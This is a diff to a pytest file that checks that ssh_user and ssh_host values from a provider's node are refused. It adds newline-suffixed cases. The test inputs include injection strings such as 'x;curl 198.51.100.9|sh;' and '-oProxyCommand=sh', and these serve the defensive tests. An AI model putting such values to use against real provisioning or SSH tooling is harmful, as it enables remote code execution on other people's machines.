@@ -110,7 +110,7 @@ def assert_refused(instance: Instance, waited, words: str) -> None:
 # --------------------------------------------------------------------------------------------- ssh_user
 
 @pytest.mark.parametrize("user", ["x;curl 198.51.100.9|sh;", "root$(id)", "a b", "-oProxyCommand=sh", "Root",
-                                  "a" * 33, "", None, 0, ["root"]])
+                                  "a" * 33, "", None, 0, ["root"], "root\n"])  # "$" matched before a newline
 def test_an_ssh_user_that_is_not_a_user_name_fails_the_provision_and_never_reaches_the_renters_command(
         monkeypatch, waited, user):
     """Before, a provider's node answering ssh_user='x;curl 198.51.100.9|sh;' had the API and the instance page
@@ -147,7 +147,7 @@ def test_a_null_ssh_host_is_the_nodes_own_address_for_ssh_and_each_port(monkeypa
 
 
 @pytest.mark.parametrize("host", ["x;id", "a b", "-oProxyCommand=sh", "host_name.example", "1.2.3.999", "",
-                                  "a" * 254, "fe80::1%eth0", 5, ["10.0.0.1"]])
+                                  "a" * 254, "fe80::1%eth0", 5, ["10.0.0.1"], "gpu1\n.example.com", "example.com\n"])
 def test_an_ssh_host_that_is_neither_an_ip_address_nor_a_hostname_is_the_nodes_garbage(monkeypatch, waited, host):
     instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=PUBLIC_NODE)
     assert_refused(instance, waited, "ssh_host")
